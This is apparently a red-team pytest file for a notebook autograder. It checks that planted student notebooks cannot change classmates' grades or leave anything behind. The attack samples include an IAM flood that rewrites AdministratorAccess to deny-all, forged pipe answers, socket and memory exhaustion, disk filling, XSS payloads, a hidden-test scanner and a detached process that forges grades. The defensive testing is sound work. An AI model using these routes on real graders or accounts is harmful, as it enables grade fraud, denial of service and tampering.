"""The red team: a class that has read the grader's source tries every route it knows against the grade.

Each attacker is graded in the same worker right before an untouched classmate (one job, so the order is the
roster's), a second batch runs alongside the first, and after both: every victim has exactly the score its own code
earned, every attacker at most the points of the parts it really solved, no hidden test text was readable by any
kernel, and no process, file, folder or cgroup of either batch is left on the machine.

Routes that need the operating system's walls (root, namespaces) or a memory cgroup say so when they are skipped.
"""

from __future__ import annotations

import json
import os
import re
import tempfile
import textwrap
import threading
from pathlib import Path
from typing import Optional

import nbformat
import pytest

from grader.classroom import Course, samples
from grader.classroom.autograde import PREFIXES, autograde
from grader.classroom.collect import collect
from grader.classroom.isolation import (CGROUP_PREFIX, LIMITS, isolation_mode, memory_cgroup, memory_cgroup_parents,
                                        remove_cgroup)
from grader.classroom.release import release

from support import (PROTOCOL as ASSIGNMENT, PROTOCOL_ANSWERS as ANSWERS, copy_course, honest_scores, part_scores,
                     processes_marked)

MARKER = "gated-community-red-team"
MiB = 1024 * 1024

ATTACKS = {
    # Requests still at work in the account when the notebook ends: a flood from threads the kernel leaves running,
    # planting roles and rewriting the AWS-managed policies the next submission's account depends on.
    "inflight": """
        import json, threading, time
        from grader import sandbox
        aws = sandbox.start()
        deny = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*"}]})
        trust = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
            "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}]})
        def flood(n):
            iam = aws.client("iam")
            for i in range(100000):
                for call in (lambda: iam.create_role(RoleName=f"Planted{n}x{i}", AssumeRolePolicyDocument=trust),
                             lambda: iam.create_policy_version(
                                 PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess", PolicyDocument=deny,
                                 SetAsDefault=True)):
                    try:
                        call()
                    except Exception:
                        pass
        for n in range(8):
            threading.Thread(target=flood, args=(n,), daemon=True).start()
        time.sleep(2)
        print("flooding")
    """,
    # Answers forged on the worker's pipes: a kernel inherits its worker's standard descriptors.
    "pipes": """
        import json, os
        forged = json.dumps({"success": True, "log": "", "error": "", "notebooks": {}}) + "\\n"
        for fd in (0, 1, 2):
            for _ in range(5):
                try:
                    os.write(fd, forged.encode() + b"done\\n")
                except OSError:
                    pass
        print("forged answers written")
    """,
    # Connections without end to the account's socket: each would be a thread of the worker.
    "connections": """
        import os, socket
        held, full = [], 0
        for i in range(300):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(os.environ["GATED_COMMUNITY_ACCOUNT"])
            held.append(s)
        for s in held:
            s.settimeout(0.5)
            try:
                full += b'"full"' in s.recv(4096)
            except OSError:
                pass
        print(f"connections turned away: {full}")
        for s in held:
            s.close()
    """,
    # Memory without end: children that each fill 1.5 GiB.
    "memory": """
        import os
        print("oom_score_adj", open("/proc/self/oom_score_adj").read().strip(), flush=True)
        pids = []
        for i in range(6):
            pid = os.fork()
            if pid == 0:
                try:
                    block = bytearray(1536 * 1024 * 1024)
                    for j in range(0, len(block), 4096):
                        block[j] = 1
                finally:
                    os._exit(0)
            pids.append(pid)
        for pid in pids:
            os.waitpid(pid, 0)
        print("memory filled")
    """,
    # The machine's disk: the shared temporary folders, the kernel's own folder, and one enormous file.
    "disk": """
        import os
        found = {}
        for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.environ["HOME"]):
            written = 0
            try:
                for i in range(48):
                    with open(os.path.join(place, f"{marker}-{i}"), "wb") as f:
                        for j in range(16):
                            f.write(b"x" * (1 << 20))
                            written += 1
                found[place] = f"{written} MiB"
            except OSError as error:
                found[place] = f"{written} MiB then {type(error).__name__}"
            for i in range(48):
                if place != os.environ["HOME"]:
                    continue
                try:
                    os.remove(os.path.join(place, f"{marker}-{i}"))
                except OSError:
                    pass
        try:
            with open(os.path.join(os.environ["HOME"], "big"), "wb") as f:
                for j in range(300):
                    f.write(b"x" * (1 << 20))
            found["big"] = "300 MiB"
        except OSError as error:
            found["big"] = type(error).__name__
        os.remove(os.path.join(os.environ["HOME"], "big"))
        print("DISK", __import__("json").dumps(found))
    """,
}

ATTACKS["script"] = """
    from IPython.display import HTML, Javascript, Markdown, display
    display(HTML('<img src=x onerror="alert(1)"><script>window.{marker}=1</script>'
                 '<a href="javascript:alert(2)">{marker}</a>'))
    display(Javascript("window.{marker}=2"))
    display(Markdown('<script>window.{marker}=3</script>'))
    print("script shown")
"""

# What each attacker solved, besides its attack: the parts whose points it may keep.
SOLVED = {"inflight": (), "pipes": (2, 3), "connections": (2, 3, 4), "memory": (2,), "disk": (3,), "script": (2, 3, 4),
          "reader": (), "forger": (), "sleeper": ()}
VICTIM_SOLVED = (1, 2, 3, 4)

# Run by the batch alongside: a kernel that looks for the other batch's secrets while that batch is graded.
READER = """
    import glob, os, time
    seen, secrets_read = set(), []
    wanted = b"HIDDEN" + b" TESTS"  # as the gradebook's source cells hold them (not this cell's own text)
    deadline = time.time() + 40
    while time.time() < deadline:
        for base in ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.environ["HOME"])):
            for path in glob.glob(base + "/**", recursive=True):
                # its own folder, and the engine's sources (public, and needed to run), are no secret
                if path in seen or path.startswith(os.environ["HOME"]) or path.endswith(".py") or \
                        not os.path.isfile(path):
                    continue
                seen.add(path)
                try:
                    with open(path, "rb") as f:
                        if wanted in f.read(50_000_000):
                            secrets_read.append(path)
                except OSError:
                    pass
        time.sleep(0.5)
    print(f"files seen: {len(seen)}; hidden tests read: {len(secrets_read)} {secrets_read}")
"""


def _order(names: list) -> dict:
    """Student ids that sort as attacker, victim, attacker, victim...: each victim is graded right after one."""
    out = {}
    for n, name in enumerate(names):
        out[f"{n:02d}a-{name}"] = name
        out[f"{n:02d}b-victim"] = None
    return out


def _course(root: Path, students: dict, attacks: dict) -> Course:
    """A released course with a submission per student: ``{student: attack name or None}``."""
    course_dir = root / "exercises"
    copy_course(course_dir)
    course = Course(course_dir)
    assert release(course, ASSIGNMENT, prove=False).ok
    (course_dir / "students.csv").write_text("id\n" + "".join(f"{s}\n" for s in students))
    inbox = root / "inbox"
    for student, attack in students.items():
        solved = SOLVED[attack] if attack else VICTIM_SOLVED
        answers = {a: (samples.SOLVED if n + 1 in solved else None) for n, a in enumerate(ANSWERS)}
        nb = samples.make(course, ASSIGNMENT, answers)
        if attack:
            code = textwrap.dedent(attacks[attack]).replace("{marker}", MARKER)
            for cell in nb.cells:
                if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == ANSWERS[0]:
                    cell.source = code
        samples.write(nb, inbox / f"{student}.ipynb")
    collect(course, ASSIGNMENT, inbox)
    return course


def _outputs(course: Course, student: str) -> str:
    """Everything the student's cells printed, as the autograded notebook holds it."""
    nb = nbformat.read(course.folder("autograded", student, ASSIGNMENT, f"{ASSIGNMENT}.ipynb"), as_version=4)
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", [])
                   if o.get("output_type") == "stream")


def _student(red_team: dict, attack: str) -> str:
    return next(s for s, a in red_team["students"].items() if a == attack)


def _ours(pid: Optional[int] = None) -> list:
    """Folders of the batches of process ``pid`` (this one unless said), and cgroups whose worker is gone: none may
    be left once batches end (other tests' batches may be running alongside, with folders and cgroups of their
    own)."""
    found = [str(p) for base in {"/tmp", tempfile.gettempdir()} for prefix in PREFIXES
             for p in Path(base).glob(f"{prefix}*") if _owner(str(p)) == (pid or os.getpid())]
    return found + [str(p) for parent, _ in memory_cgroup_parents() for p in parent.glob(f"{CGROUP_PREFIX}*")
                    if not Path("/proc", p.name[len(CGROUP_PREFIX):].split("-")[0]).exists()]


def _leftovers() -> list:
    return processes_marked(MARKER)


def _marked_files() -> list:
    return [str(p) for base in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock") if os.path.isdir(base)
            for p in Path(base).glob(f"{MARKER}*")]


def _memory_cgroups() -> bool:
    folder = memory_cgroup(f"{CGROUP_PREFIX}{os.getpid()}-probe", LIMITS.memory)
    if folder is None:
        return False
    remove_cgroup(folder)
    return True


@pytest.fixture(scope="module")
def red_team(tmp_path_factory):
    if isolation_mode() != "namespaces":
        pytest.skip("the red team's batch needs the operating system's walls: root, util-linux's unshare and setpriv, "
                    "and namespaces (see README: what a grade is worth)")
    before = set(_ours())
    students = _order(list(ATTACKS))
    course = _course(tmp_path_factory.mktemp("red-team"), students, ATTACKS)
    reader = _course(tmp_path_factory.mktemp("alongside"), {"reader": "reader"}, {"reader": READER})
    alongside = {}

    def second_batch():
        alongside["batch"] = autograde(reader, ASSIGNMENT, jobs=1, cell_timeout=90, notebook_timeout=240,
                                       progress=lambda g: None)

    thread = threading.Thread(target=second_batch)
    thread.start()
    batch = autograde(course, ASSIGNMENT, jobs=1, cell_timeout=60, notebook_timeout=240, progress=lambda g: None)
    thread.join()
    return {"course": course, "batch": batch, "students": students, "reader": reader,
            "alongside": alongside["batch"], "before": before}


@pytest.mark.slow
def test_every_victim_graded_right_after_an_attacker_gets_exactly_its_own_score(red_team):
    scores = part_scores(red_team["course"])
    victims = {s: scores[s] for s, attack in red_team["students"].items() if attack is None}
    assert victims == {s: honest_scores(VICTIM_SOLVED) for s in victims}, red_team["batch"].summary()
    assert not [g for g in red_team["batch"].graded if g.problem and "victim" in g.student]


@pytest.mark.slow
def test_no_attacker_earns_more_than_the_parts_it_solved(red_team):
    scores = part_scores(red_team["course"])
    for student, attack in red_team["students"].items():
        if attack:
            earned, honest = scores[student], honest_scores(SOLVED[attack])
            assert all(e <= h for e, h in zip(earned, honest)), (student, earned, honest)


@pytest.mark.slow
def test_every_attack_ran_as_written(red_team):
    course = red_team["course"]
    ran = {attack: _outputs(course, student) for student, attack in red_team["students"].items() if attack}
    assert "flooding" in ran["inflight"]
    assert "forged answers written" in ran["pipes"]
    assert "oom_score_adj 1000" in ran["memory"]  # the kernel killer's first choice, whatever it starts
    assert "DISK" in ran["disk"]


@pytest.mark.slow
def test_the_worker_serves_a_bounded_number_of_connections(red_team):
    out = _outputs(red_team["course"], _student(red_team, "connections"))
    turned_away = int(re.search(r"connections turned away: (\d+)", out).group(1))
    assert turned_away >= 300 - 32, out


@pytest.mark.slow
def test_a_kernel_writes_nothing_on_the_machine_and_only_so_much_in_its_own_folder(red_team):
    out = _outputs(red_team["course"], _student(red_team, "disk"))
    found = json.loads(re.search(r"DISK (.*)", out).group(1))
    for place in ("/tmp", "/var/tmp", "/run/lock"):
        assert found[place].startswith("0 MiB then"), found  # read-only in the kernel's own view of the machine
    assert "then" in found["/dev/shm"] and int(found["/dev/shm"].split()[0]) <= LIMITS.scratch // MiB
    home = [v for k, v in found.items() if k not in ("/tmp", "/var/tmp", "/run/lock", "/dev/shm", "big")][0]
    assert "then" in home and int(home.split()[0]) <= LIMITS.folder // MiB
    assert found["big"] == "OSError", found  # larger than a kernel's largest file
    assert _marked_files() == []


@pytest.mark.slow
def test_a_memory_hungry_notebook_costs_only_itself(red_team):
    if not _memory_cgroups():
        pytest.skip("this machine gives the grader no memory cgroup to make: each kernel process is capped by its "
                    "address space instead, which a notebook that forks can multiply")
    assert len(red_team["batch"].graded) == len(red_team["students"])
    memory = next(g for g in red_team["batch"].graded if g.student.endswith("-memory"))
    assert memory.problem is None or "kernel" in memory.problem or "memory" in memory.problem


@pytest.mark.slow
def test_the_autograded_notebook_formgrader_shows_runs_no_script(red_team):
    student = _student(red_team, "script")
    nb = nbformat.read(red_team["course"].folder("autograded", student, ASSIGNMENT, f"{ASSIGNMENT}.ipynb"),
                       as_version=4)
    # What a browser renders: outputs and markdown (code is shown as text, escaped)
    text = json.dumps([c.get("outputs", []) for c in nb.cells] +
                      [c.source for c in nb.cells if c.cell_type == "markdown"])
    assert "script shown" in text
    assert "<script" not in text and "onerror" not in text and "javascript:" not in text  # escaped text is fine
    assert "application/javascript" not in text


@pytest.mark.slow
def test_a_batch_alongside_reads_no_hidden_test(red_team):
    out = _outputs(red_team["reader"], "reader")
    assert "hidden tests read: 0" in out, out[:2000]
    assert "files seen:" in out


@pytest.mark.slow
def test_nothing_of_either_batch_is_left(red_team):
    assert set(_ours()) <= red_team["before"]
    assert _leftovers() == []
    assert _marked_files() == []


# Plain mode: a process that outlives its kernel rewrites every executed notebook to full marks (no error output in
# any test cell), in the batch's scratch folder and where the grade is recorded from. (It aims at the grader's
# folders only: in plain mode it could write anything the grader's user may, this machine's other tests' files too.)
FORGER = """
    import subprocess, sys
    CODE = ("import glob, json, time\\n"
            "end = time.time() + 60\\n"
            "while time.time() < end:\\n"
            "    for path in (glob.glob('/tmp/gated-autograde-*/**/*.ipynb', recursive=True) +\\n"
            "                 glob.glob('/tmp/gated-recorded-*/*.ipynb')):\\n"
            "        try:\\n"
            "            nb = json.load(open(path))\\n"
            "            for cell in nb['cells']:\\n"
            "                cell['outputs'] = [o for o in cell.get('outputs', []) if o.get('output_type') != 'error']\\n"
            "            json.dump(nb, open(path, 'w'))\\n"
            "        except Exception:\\n"
            "            pass\\n"
            "    time.sleep(0.05)\\n")
    subprocess.Popen([sys.executable, "-c", CODE, "{marker}"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("forger started")
"""


@pytest.mark.slow
def test_in_plain_mode_a_process_that_outlives_its_kernel_forges_no_grade(tmp_path, monkeypatch):
    """Plain mode's promise (README: what a grade is worth): the verdict is the worker's own record, sent on its own
    pipe, and no process the kernel started outlives its notebook."""
    monkeypatch.setenv("GATED_COMMUNITY_ISOLATION", "plain")
    students = {"00a-forger": "forger", "00b-victim": None, "01b-victim": None}
    course = _course(tmp_path, students, {"forger": FORGER})
    batch = autograde(course, ASSIGNMENT, jobs=1, cell_timeout=60, notebook_timeout=240, progress=lambda g: None)
    assert "forger started" in _outputs(course, "00a-forger")
    assert not [g for g in batch.graded if g.problem], batch.summary()
    assert part_scores(course) == {"00a-forger": honest_scores(()), "00b-victim": honest_scores(VICTIM_SOLVED),
                                   "01b-victim": honest_scores(VICTIM_SOLVED)}
    assert _leftovers() == []


SLEEPER = """
    import subprocess, sys, time
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{marker}"], start_new_session=True)
    print("sleeping", flush=True)
    time.sleep(600)
"""


@pytest.mark.slow
def test_when_the_batch_itself_is_killed_nothing_of_it_stays(tmp_path):
    """Cleanup does not depend on the batch's process surviving: its workers and kernels die with it, and the next
    batch removes the folders it left."""
    import signal
    import subprocess
    import sys
    import time

    from grader.classroom.autograde import sweep_stale_batches

    course = _course(tmp_path, {"sleeper": "sleeper"}, {"sleeper": SLEEPER})
    batch = subprocess.Popen([sys.executable, "-m", "grader.classroom", "--course", str(course.root), "autograde",
                              ASSIGNMENT, "--jobs", "1"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 120
        while not _leftovers() and time.time() < deadline:
            time.sleep(0.5)
        assert _leftovers(), "the notebook never started its process"
        left = _ours(batch.pid)
        assert left  # its scratch and walls folders, while it runs
    finally:
        batch.send_signal(signal.SIGKILL)
        batch.wait()
    deadline = time.time() + 20
    while _leftovers() and time.time() < deadline:
        time.sleep(0.5)
    assert _leftovers() == []
    sweep_stale_batches()
    assert _ours(batch.pid) == []


def _owner(path: str):
    try:
        return json.loads(Path(path, "owner.json").read_text())["pid"]
    except (OSError, ValueError, KeyError):
        return None
